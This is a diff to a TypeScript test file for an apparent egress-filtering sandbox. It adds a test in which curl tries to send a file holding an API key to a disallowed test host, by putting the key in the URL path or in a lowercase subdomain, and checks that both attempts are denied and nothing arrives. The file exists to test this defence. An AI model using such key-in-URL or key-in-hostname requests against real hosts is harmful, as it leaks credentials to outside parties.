@@ -82,7 +82,9 @@ afterEach(() => {
       const places = s
         .filesHolding(value)
         .filter((file) => which !== name || file !== `secrets/${name}.json`);
-      if (s.outputs.some((text) => text.includes(value))) places.push("a command's output");
+      const lower = value.toLowerCase();
+      if (s.outputs.some((text) => text.toLowerCase().includes(lower)))
+        places.push("a command's output");
       for (const place of places) {
         if (reported.has(`${value} ${place}`)) continue;
         reported.add(`${value} ${place}`);
@@ -415,6 +417,29 @@ function runTests(isolate: boolean): void {
     await expectDenials(cases, "secret_exfiltration", options);
   });
 }
+
+test("a value in the name or path of a request to a host the policy does not allow: denied, and no line keeps it", async () => {
+  const file = foundFile("OPENAI_API_KEY");
+  const hits = s.origins.hits.length;
+  const { result, out } = await s.probe(token, [
+    curl("path", `http://elsewhere.test:${String(s.origins.plainPort)}/upload/{file:${file}}`),
+    // Lower case: a host name is compared in any case, and a key is still a key.
+    curl("host", `https://{filelower:${file}}.${s.hostPorts[INSPECTED] ?? ""}/`),
+  ]);
+  assert.equal(result.status, 0, result.stderr);
+  assert.match(reasonOf(out["path"]), /^(secret_exfiltration|domain_not_allowed)$/);
+  // curl shows no body of a refused CONNECT: its audit line gives the reason.
+  assert.equal(out["host"]?.status, 403, JSON.stringify(out["host"]));
+  const connect = s.h
+    .auditLines()
+    .filter((l) => l["method"] === "CONNECT" && l["port"] === s.origins.tlsPort);
+  assert.match(
+    String(connect.at(-1)?.["deny_reason"]),
+    /^(secret_exfiltration|domain_not_allowed)$/,
+  );
+  assert.deepEqual(s.origins.hits.slice(hits), [], "the origins received nothing");
+  // The leak check after the test looks for the value, in any case, in the audit log.
+});
 
 describe("vallignus run", () => runTests(false));
 describe("vallignus run --isolate", () => runTests(true));
